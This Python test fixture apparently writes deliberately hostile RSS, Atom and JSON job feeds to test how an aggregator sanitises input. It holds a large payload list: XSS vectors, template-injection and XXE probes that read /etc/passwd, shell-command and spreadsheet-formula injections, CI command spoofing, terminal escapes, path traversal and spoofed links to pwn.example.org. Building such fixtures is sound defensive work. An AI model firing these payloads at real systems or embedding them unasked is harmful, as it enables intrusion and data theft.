"""Text that wants to be more than text, in every field of feeds of three formats.

Whatever would run a script calls `pwn()`; whatever would fetch something asks
pwn.example.org for it.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from html import escape
from pathlib import Path

import yaml

from tests.faults.nights import World

MARKUP = (
    "<script>pwn()</script>",
    "<SCRIPT SRC=//pwn.example.org/x.js></SCRIPT>",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script/x>pwn()</script >",
    "<script\t>pwn()</script\n>",
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "</noscript><script>pwn()</script>",
    "</main></body></html><script>pwn()</script>",
    "--><script>pwn()</script><!--",
    "<!--><img src=x onerror=pwn()>-->",
    "<!-- <script>pwn()</script> --!><img src=x onerror=pwn()>",
    "<![CDATA[<script>pwn()</script>]]>",
    "<?php pwn() ?><?xml version='1.0'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<svg><a xlink:href='javascript:pwn()'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:pwn() /></svg>",
    "<svg><foreignObject><body onload=pwn()></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>",
    "<math href='javascript:pwn()'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<template><script>pwn()</script></template>",
    "<template shadowrootmode=open><script>pwn()</script></template>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<object data=javascript:pwn()></object><embed src=javascript:pwn()>",
    "<base href=https://pwn.example.org/>",
    "<meta http-equiv=refresh content='0;url=https://pwn.example.org/'>",
    "<link rel=stylesheet href=https://pwn.example.org/x.css>",
    "<style>@import 'https://pwn.example.org/x.css';*{display:none}</style>",
    "<img src=https://pwn.example.org/pixel.gif>",
    "<video><source onerror=pwn() src=x></video>",
    "<audio src=x onerror=pwn()>",
    "<details open ontoggle=pwn()>x</details>",
    "<dialog open onclose=pwn()>x</dialog>",
    "<form action=https://pwn.example.org/><input name=password autofocus onfocus=pwn()>",
    "<button formaction=javascript:pwn()>x</button>",
    "<select autofocus onfocus=pwn()></select><keygen autofocus onfocus=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<isindex type=image src=x onerror=pwn()>",
    "<plaintext>",
    "<xmp><img src=x onerror=pwn()></xmp>",
    "<table background=javascript:pwn()><td background=//pwn.example.org/x>",
    "<x-y onclick=pwn() style=position:fixed>x</x-y>",
    "<p><p><div><<b></p>><i",
)
ATTRIBUTES = (
    '" onmouseover="pwn()" x="',
    "' onmouseover='pwn()' x='",
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    "`><img src=x onerror=pwn()>",
    "\" autofocus onfocus=pwn() tabindex=1 x='",
    "<p onclick=pwn()>x</p>",
    "<p/onclick=pwn()>x</p>",
    "<p\x0conclick=pwn()>x</p>",
    "<p OnCliCk='pwn()'>x</p>",
    "<p style='background:url(https://pwn.example.org/)'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<p id=main class=cswm-header name=x slot=x is=x>x</p>",
    "<p id=__proto__ name=attributes>x</p>",
    "<a href=x ping=https://pwn.example.org/ target=_top download>x</a>",
    "<a href=https://jobs.example.org/ rel=opener onclick=pwn()>x</a>",
    "<p contenteditable popover accesskey=x>x</p>",
    "<p data-cswm-closes='2020-01-01' data-cswm-built='2020-01-01'>x</p>",
    "<td headers=main scope=row abbr=x>x</td>",
    "<img alt='`onerror=pwn()' src=`x`>",
)
ENTITIES = (
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "&#x3c;img src=x onerror=pwn()&#x3e;",
    "&#0000060img src=x onerror=pwn()&#0000062",
    "&LT;script&GT;pwn()&LT;/script&GT;",
    "&lt;img src=x onerror=pwn()",
    "&quot;&gt;&lt;script&gt;pwn()&lt;/script&gt;",
    "&#0;&#x80;&#x1F;&#xD800;&#x110000;&#xFFFE;",
    "&nbsp;&zwj;&shy;&rlm;&notareference;",
    "&#x26;#x3c;script&#x26;#x3e;pwn()",
    "&apos; onclick=&apos;pwn()",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
)
TEMPLATES = (
    "{{ 191*7 }}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# unclosed",
    "{% raw %}",
    "${191*7} #{191*7} <%= 191*7 %> [[191*7]]",
    "{{constructor.constructor('pwn()')()}}",
    "{filename}/etc/passwd {static}/x {attach}x |filename|x",
    "%(title)s %s %n {0} {title.__class__} $title",
)
JSON_LD = (
    "</script><script>pwn()</script>",
    "</SCRIPT ><img src=x onerror=pwn()>",
    "<!--<script>",
    "<!-- <script> </script>",
    '"}]}</script><script>pwn()//',
    '","@type":"Organization","x":"',
    "\u2028pwn()\u2029",
    "\\u0022,\\u0022url\\u0022:\\u0022https://pwn.example.org",
    "*/pwn()/*",
    "]]></script><script>pwn()</script>",
)
CDATA = (
    "]]>",
    "]]]]><![CDATA[>",
    "]]></description><title>pwned</title>",
    "]]></content:encoded></item><item><title>Pwned</title></item>",
    "<![CDATA[ ]]&gt; ]]>",
    "&xxe; %pe; <!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
)
INVISIBLE = (
    "\u202egnp.exe",
    "\u202a\u202b\u202d\u202cx",
    "\u2066\u2067\u2068\u2069x",
    "\u200e\u200f\u061cx",
    "So\u200bcial\u200c Wor\u200dker",
    "\ufeffx\u2060\u2063",
    "\u00adsoft\u00adhyphen",
    "\u180ex\u206ax\u206fx",
    "S\u043e\u0441ial W\u043erker",  # Cyrillic o and es
    "Z\u0350\u0351a\u0352\u0357l\u0346g\u034ao",
)
CONTROLS = (
    "\x00",
    "a\x00b",
    "\x08\x08\x08\x7f",
    "\x0b\x0c",
    "\x01\x02\x03\x04\x05\x06\x07\x0e\x0f\x10\x1f",
    "\x80\x85\x90\x9b\x9c\x9f",
    "\ufffe\uffff",
    "\ufdd0\U0001ffff",
    "\ud800",
    "\udfff\ud83d",
    "a\r\nb\rc\nd",
    "a\u2028b\u2029c\x85d",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;owned\x07",
    "\x1b]8;;https://pwn.example.org\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP$q\x1b\\ \x1b_x\x1b\\",
    "\x9b31m\x9b2J",
    "\x1b[6n\x1b[c",
    "\r\x1b[Kall is well",
    "[bold red]shout[/] [/] [link=https://pwn.example.org]x[/link] :boom:",
)
COMMANDS = (
    "::error::pwned",
    "::error file=app.js,line=1::pwned",
    "::warning::x\n::notice::y",
    "::add-mask::e",
    "::set-output name=x::y",
    "::stop-commands::token",
    "\n::group::x\n::endgroup::",
    ":::::error::",
    "\u200b::error::x",
    "##[error]x ##[group]y",
    "##vso[task.setvariable variable=x]y",
    "%0A::error::x%0D%0A",
    "$(touch pwned) `touch pwned` ; touch pwned | x && x > pwned",
    "'; touch pwned #",
)
CELLS = (
    "=1+1",
    '=HYPERLINK("https://pwn.example.org","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
MARKDOWN = (
    "# Heading",
    "```\nfence\n```",
    "```````` longer",
    "~~~",
    "| a | b |\n|--|--|",
    "[x](javascript:pwn())",
    "![x](https://pwn.example.org/x.png)",
    "<https://pwn.example.org/>",
    "https://pwn.example.org/ www.pwn.example.org",
    "@everyone @org/team #1 GH-1 org/repo#1",
    "[x]: https://pwn.example.org 'y'\n[x]",
    "**bold** _em_ ~~x~~ `code`",
    "> quote\n- [ ] task",
    "---\ntitle: pwned\n---",
    "Title: pwned\nSlug: ../../pwned\n",
    "\\\\`\\*\\_",
)
PATHS = (
    "../../x",
    "..\\..\\x",
    "/etc/passwd",
    "....//....//x",
    "%2e%2e%2f%2e%2e%2fx",
    "C:\\con\\aux.txt",
    "con",
    "nul.html",
    "index",
    "index.html",
    "feed.xml",
    ".",
    "..",
    "...",
    "-rf",
    "~root",
    "x" * 300,
    "\u00e9" * 200,
    "\U0001f642" * 60,
    "!!!",
    "\U0001f642",
    "a/b/c",
    "a\x00.html",
    "name. ",
)
LINKS = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    "\x01javascript:pwn()",
    "javascript&colon;pwn()",
    "javascript&#58;pwn()",
    "javascript:/*https://jobs.example.org/*/pwn()",
    "javascript://jobs.example.org/%0apwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "vbscript:pwn()",
    "livescript:pwn()",
    "blob:https://jobs.example.org/x",
    "file:///etc/passwd",
    "view-source:https://jobs.example.org/",
    "ftp://jobs.example.org/x",
    "feed:javascript:pwn()",
    "intent://x#Intent;end",
    "//pwn.example.org/x",
    "\\\\pwn.example.org\\x",
    "https:\\\\pwn.example.org",
    "/\\pwn.example.org",
    "https://jobs.example.org@pwn.example.org/",
    "https://user:password@jobs.example.org/",
    "https://jobs.example.org\\@pwn.example.org/",
    "https://jobs.example.org\t.pwn.example.org/",
    'https://jobs.example.org/"onmouseover="pwn()',
    "https://jobs.example.org/'><img src=x onerror=pwn()>",
    "https://jobs.example.org/<script>pwn()</script>",
    "https://jobs.example.org/\r\nSet-Cookie: x=y",
    "https://jobs.example.org/\u202egnp",
    "https://j\u043ebs.example.org/",  # Cyrillic o
    "https://127.0.0.1/",
    "https://[::1]/",
    "https://localhost/",
    "https://jobs.example.org:99999/",
    "https://",
    "https:///x",
    "::error::x",
)
GROUPS = (
    *(MARKUP, ATTRIBUTES, ENTITIES, TEMPLATES, JSON_LD, CDATA, INVISIBLE),
    *(CONTROLS, TERMINAL, COMMANDS, CELLS, MARKDOWN, PATHS),
)
PAYLOADS = tuple(payload for group in GROUPS for payload in group)

Text = Callable[[str], str]
_LONG = "<p>You will work with children, and with the people who care for them.</p>" * 6


def titles() -> list[str]:
    """A title for each payload: it comes first, last, or after the words."""
    forms = ("Social Worker {0}: {1}", "{1} Social Worker {0}", "Social Worker {0}{1}")
    return [
        forms[number % 3].replace("{0}", str(number)).replace("{1}", payload)
        for number, payload in enumerate(PAYLOADS)
    ]


def entries() -> list[dict[str, str]]:
    """What each entry says, field by field: the payload is in all of them."""
    words = [
        {
            "title": title,
            "guid": f"{payload}-{number}",
            "link": f"https://jobs.example.org/{number}",
            "html": f"<p>{payload}</p>{_LONG}<p>Closing date: 20 December 2026</p>",
            "location": f"Otley {payload}",
            "salary": f"£40,000 a year {payload}",
            "category": payload,
            "author": payload,
        }
        for number, (title, payload) in enumerate(zip(titles(), PAYLOADS, strict=True))
    ]
    links = [
        {
            "title": f"Social Worker with a link {number}",
            "guid": f"link-{number}",
            "link": link,
            "html": f"<p><a href=\"{link}\">x</a><a href='{escape(link)}'>y</a></p>{_LONG}",
            "location": "Otley",
            "salary": "£40,000 a year",
            "category": link,
            "author": link,
        }
        for number, link in enumerate(LINKS)
    ]
    return words + links


def rss(listed: list[dict[str, str]]) -> bytes:
    items = "".join(
        "<item><title>{title}</title><guid>{guid}</guid><link>{link}</link>"
        "<description>{html}</description><category>{category}</category>"
        "<author>{author}</author><location>{location}</location>"
        "<salary>{salary}</salary></item>".format_map(_for_xml(each))
        for each in listed
    )
    return (
        f'<rss version="2.0"><channel><title>x</title>{items}</channel></rss>'.encode()
    )


def atom(listed: list[dict[str, str]]) -> bytes:
    items = "".join(
        "<entry><title type='html'>{title}</title><id>{guid}</id>"
        "<link rel='alternate' href='{link}'/><content type='html'>{html}</content>"
        "<category term='{category}' label='{category}'/>"
        "<author><name>{author}</name></author></entry>".format_map(_for_xml(each))
        for each in listed
    )
    head = "<title>x</title><id>urn:x</id>"
    return f'<feed xmlns="http://www.w3.org/2005/Atom">{head}{items}</feed>'.encode()


def json_feed(listed: list[dict[str, str]]) -> bytes:
    """Here every character may stand, lone surrogates as escapes."""
    items = [
        {
            "id": each["guid"],
            "url": each["link"],
            "title": each["title"],
            "content_html": each["html"],
            "tags": [each["category"]],
            "authors": [{"name": each["author"]}],
            "location": each["location"],
            "salary": each["salary"],
        }
        for each in listed
    ]
    version = "https://jsonfeed.org/version/1.1"
    return json.dumps({"version": version, "title": "x", "items": items}).encode()


FEEDS = {
    "northfold": ("feed.xml", rss),
    "seaton": ("feed.json", json_feed),
    "westmere": ("feed.atom", atom),
}


def listed_by(council: str) -> list[dict[str, str]]:
    """JSON can hold every character and has every entry; the others share them."""
    everything = entries()
    halves = {"northfold": everything[::2], "westmere": everything[1::2]}
    return halves.get(council, everything)


def feed_of(world: World, council: str) -> Path:
    return world.councils_file.parent / "samples" / f"{council}.{FEEDS[council][0]}"


def invade(world: World) -> None:
    """Every council's feed is hostile, each in a format of its own."""
    document = yaml.safe_load(world.councils_file.read_text(encoding="utf-8"))
    for council in document["councils"]:
        file = feed_of(world, council["id"])
        file.parent.mkdir(exist_ok=True)
        file.write_bytes(FEEDS[council["id"]][1](listed_by(council["id"])))
        council["feed"] = {"url": f"samples/{file.name}"}
    world.councils_file.write_text(yaml.safe_dump(document), encoding="utf-8")


def _for_xml(entry: dict[str, str]) -> dict[str, str]:
    """What an XML document can hold of it (XML 1.0, Char), escaped once."""
    return {
        name: escape("".join(filter(_may_be, text))) for name, text in entry.items()
    }


def _may_be(c: str) -> bool:
    return (
        c in "\t\n\r" or " " <= c < "\ud800" or "\ue000" <= c < "\ufffe" or c > "\uffff"
    )
